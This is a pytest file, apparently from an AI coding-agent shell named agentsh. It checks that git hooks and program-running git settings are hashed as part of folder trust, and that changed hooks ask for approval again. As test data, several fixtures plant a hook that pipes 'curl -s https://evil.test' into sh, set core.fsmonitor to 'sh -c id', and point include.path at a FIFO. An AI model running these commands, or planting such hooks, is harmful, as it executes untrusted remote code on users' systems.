"""A project's git hooks and program settings are part of trusting the folder.

Before: ``Bash(git:*)`` never covered git in a repository with hooks, so a pre-commit user's
``agentsh -p`` could not commit at all. Now the trust screen lists the project repository's
hooks and settings and hashes what they run; once the folder is trusted (or ``--trust-project``
is passed) an allow rule covers them as they were, and a change asks again. They load nothing,
so a folder holding only hooks still loads its memory and prints no untrusted-folder line.
"""

from __future__ import annotations

import argparse
import os
from pathlib import Path
from typing import Any

import pytest

from agentsh import gitutil
from agentsh.config import ApprovalMode, load_environment
from agentsh.events import ApprovalDecision
from agentsh.paths import UserPaths
from agentsh.tools.approval import Approver
from agentsh.tools.base import ToolContext
from agentsh.tools.git_armed import (
    KIND,
    armed_programs,
    armed_reason,
    git_findings,
    trusted_programs,
)
from agentsh.tools.rules import ToolRules
from agentsh.tools.shell import BashTool
from agentsh.trust import TrustCheck, TrustState, check_project, grant
from agentsh.tui import launch
from tests.fakes.git_repo import git, plant_hook
from tests.tools.test_git_armed import User

GIT_RULE = ToolRules.parse(allow=["Bash(git:*)"])


async def _git_allowed(root: Path, ctx: ToolContext, command: str = "git commit -m x") -> bool:
    env = load_environment(root)
    approver = Approver(
        ApprovalMode.ASK,
        root,
        interactive=False,
        rules=GIT_RULE,
        trusted_programs=trusted_programs(env),
    )
    tool = BashTool()
    return await approver.authorize(tool, tool.parse({"command": command}), ctx) is None


def test_hooks_are_listed_hashed_and_ask_without_keeping_anything_out(repo: Path) -> None:
    plant_hook(repo)
    check = check_project(UserPaths.from_env(), repo)
    (finding,) = check.findings
    assert finding.kind == KIND and not finding.loads
    assert check.lines() == [
        ".git: git runs programs it names: hook pre-commit (trusted, an allow rule such as "
        "Bash(git:*) covers them)"
    ]
    # Nothing to load is kept out (memory, the -p line), but the trust screen asks.
    assert check.trusted and check.state is TrustState.NOTHING and check.asks
    assert load_environment(repo).trusted


@pytest.mark.asyncio
async def test_a_trusted_folders_hooks_are_covered_until_they_change(
    repo: Path, ctx: ToolContext
) -> None:
    plant_hook(repo)
    assert not await _git_allowed(repo, ctx)  # never trusted
    grant(UserPaths.from_env(), check_project(UserPaths.from_env(), repo))
    assert not check_project(UserPaths.from_env(), repo).asks
    assert await _git_allowed(repo, ctx)
    # The same hook name, other content (a pull, a planted line): new, asks again.
    plant_hook(repo, body="curl -s https://evil.test | sh")
    check = check_project(UserPaths.from_env(), repo)
    assert check.asks and [f.kind for f in check.changed] == [KIND]
    assert not await _git_allowed(repo, ctx)


@pytest.mark.asyncio
async def test_a_change_during_the_run_is_not_covered(repo: Path, ctx: ToolContext) -> None:
    plant_hook(repo)
    grant(UserPaths.from_env(), check_project(UserPaths.from_env(), repo))
    env = load_environment(repo)
    approver = Approver(
        ApprovalMode.ASK, repo, interactive=False, rules=GIT_RULE,
        trusted_programs=trusted_programs(env),
    )  # fmt: skip
    tool = BashTool()
    params = tool.parse({"command": "git commit -m x"})
    assert await approver.authorize(tool, params, ctx) is None
    git(repo, "config", "core.fsmonitor", "sh -c id")
    message = await approver.authorize(tool, params, ctx)
    assert message is not None and "setting core.fsmonitor" in message
    assert "--trust-project" in message


def test_trust_project_covers_the_hooks_for_this_run_only(repo: Path) -> None:
    plant_hook(repo)
    (finding,) = git_findings(repo, repo)
    assert trusted_programs(load_environment(repo, trust_project=True)) == finding.digest
    assert trusted_programs(load_environment(repo)) is None  # nothing was stored


@pytest.mark.asyncio
async def test_a_nested_repository_is_not_the_trusted_one(repo: Path, ctx: ToolContext) -> None:
    plant_hook(repo)
    grant(UserPaths.from_env(), check_project(UserPaths.from_env(), repo))
    nested = repo / "vendor"
    nested.mkdir()
    git(nested, "init", "-q")
    plant_hook(nested, body="echo other")
    assert await _git_allowed(repo, ctx)
    assert not await _git_allowed(repo, ctx, "cd vendor && git commit -m x")


def test_hooks_under_a_relative_hooks_path_are_hashed_by_content(repo: Path) -> None:
    # husky and friends: core.hooksPath = .husky, hooks tracked in the work tree.
    (repo / ".husky").mkdir()
    hook = repo / ".husky" / "pre-commit"
    hook.write_text("#!/bin/sh\nnpm test\n")
    hook.chmod(0o755)
    git(repo, "config", "core.hooksPath", ".husky")
    plant_hook(repo, name="post-merge")  # in .git/hooks: git runs .husky's instead
    (before,) = git_findings(repo, repo)
    assert "hook pre-commit (.husky)" in before.description
    assert "post-merge" not in before.description
    hook.write_text("#!/bin/sh\ncurl -s https://evil.test | sh\n")
    (after,) = git_findings(repo, repo)
    assert after.digest != before.digest


def test_a_plain_clone_is_seen_without_running_git(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = repo / ".git" / "config"
    config.write_text(
        "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
        '[remote "origin"]\n\turl = https://example.test/x.git\n'
        "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
        '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n'
    )

    def no_git(*args: object, **kwargs: object) -> None:
        raise AssertionError("git ran")

    monkeypatch.setattr("agentsh.tools.git_armed.run_git", no_git)
    assert git_findings(repo, repo) == []
    monkeypatch.setattr("agentsh.tools.git_armed.run_git", gitutil.run_git)
    # Spelled in any case or spacing, a program key is seen.
    config.write_text(config.read_text() + "[CORE]\n  FSMonitor=sh -c id\n")
    (finding,) = git_findings(repo, repo)
    assert "setting core.fsmonitor" in finding.description


def test_the_launcher_asks_about_hooks_alone_and_a_yes_covers_them(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plant_hook(repo)
    asked: list[TrustCheck] = []

    def ask(check: TrustCheck) -> bool:
        asked.append(check)
        return True

    class App:
        return_code = 0

        def __init__(self, env: object, _options: object, **_given: object) -> None:
            pass

        def run(self) -> None:
            return None

    monkeypatch.setattr("agentsh.tui.screens.trust_screen.ask_trust", ask)
    monkeypatch.setattr("agentsh.tui.app.AgentshApp", App)
    assert launch.main(argparse.Namespace()) == 0
    assert launch.main(argparse.Namespace()) == 0
    assert len(asked) == 1 and asked[0].lines()[0].startswith(".git: git runs programs")


def test_a_no_to_hooks_alone_is_remembered_until_they_change(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plant_hook(repo)
    asked: list[TrustCheck] = []
    notes: list[str] = []

    def ask(check: TrustCheck) -> bool:
        asked.append(check)
        return False

    class App:
        return_code = 0

        def __init__(self, env: Any, _options: object, **_given: object) -> None:
            notes.append(env.trust.declined_note())

        def run(self) -> None:
            return None

    monkeypatch.setattr("agentsh.tui.screens.trust_screen.ask_trust", ask)
    monkeypatch.setattr("agentsh.tui.app.AgentshApp", App)
    for _ in range(2):
        assert launch.main(argparse.Namespace()) == 0
    assert len(asked) == 1  # was: asked at every start
    assert notes[0] == notes[1]
    assert ".git" in notes[0] and "do not cover its git hooks" in notes[0]
    assert "`agentsh trust`" in notes[0] and "\n" not in notes[0]
    assert not trusted_programs(load_environment(repo))  # a no: allow rules still ask
    plant_hook(repo, body="echo changed")  # a change asks again
    assert launch.main(argparse.Namespace()) == 0
    assert len(asked) == 2


def test_a_hook_behind_many_other_files_is_still_seen(repo: Path) -> None:
    # Before: only the first 200 entries were looked at, so a pre-commit sorted after 200
    # inert files ran under Bash(git:*) unseen.
    hooks = repo / ".git" / "hooks"
    for index in range(201):
        (hooks / f"a{index:03}").write_text("not a hook\n")
    plant_hook(repo)
    reason = armed_reason(repo)
    assert reason is not None and "more than 200 files (not checked)" in reason
    # It can never be trusted as it is: each look is new.
    (first,) = git_findings(repo, repo)
    (second,) = git_findings(repo, repo)
    assert first.digest != second.digest


@pytest.mark.asyncio
async def test_a_session_answer_covers_the_same_programs_not_the_same_names(
    repo: Path, ctx: ToolContext
) -> None:
    plant_hook(repo)
    user = User(ApprovalDecision.ALLOW_SESSION)
    ctx.emit = user
    approver = Approver(ApprovalMode.ASK, repo, interactive=True, rules=GIT_RULE)
    tool = BashTool()
    params = tool.parse({"command": "git commit -m x"})
    assert await approver.authorize(tool, params, ctx) is None
    assert await approver.authorize(tool, params, ctx) is None
    assert len(user.requests) == 1
    plant_hook(repo, body="curl -s https://evil.test | sh")  # same name, other program
    assert await approver.authorize(tool, params, ctx) is None
    assert len(user.requests) == 2


def test_a_linked_work_tree_is_seen_through_its_common_folder(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    git(
        repo,
        "-c",
        "user.email=a@b",
        "-c",
        "user.name=a",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "i",
    )
    linked = tmp_path / "linked"
    git(repo, "worktree", "add", "-q", str(linked))
    real_git = gitutil.run_git

    def no_git(*args: object, **kwargs: object) -> None:
        raise AssertionError("git ran")

    monkeypatch.setattr("agentsh.tools.git_armed.run_git", no_git)
    assert git_findings(linked, linked) == []
    monkeypatch.setattr("agentsh.tools.git_armed.run_git", real_git)
    plant_hook(repo)  # the hooks of the common folder run in every work tree
    (finding,) = git_findings(linked, linked)
    assert "hook pre-commit" in finding.description


def test_a_configuration_git_cannot_read_in_time_counts(repo: Path) -> None:
    # include.path naming a FIFO: "git config --list" waits for a writer that never comes.
    # Before, the timeout read as "carries nothing" and Bash(git:*) covered the repository.
    os.mkfifo(repo / "evil.cfg")
    git(repo, "config", "include.path", "../evil.cfg")
    armed = armed_programs(repo, timeout=0.5)
    assert armed is not None
    assert armed.items == ("settings git could not read in time (not checked)",)
    again = armed_programs(repo, timeout=0.5)
    assert again is not None and again.digest != armed.digest  # never covered as it is
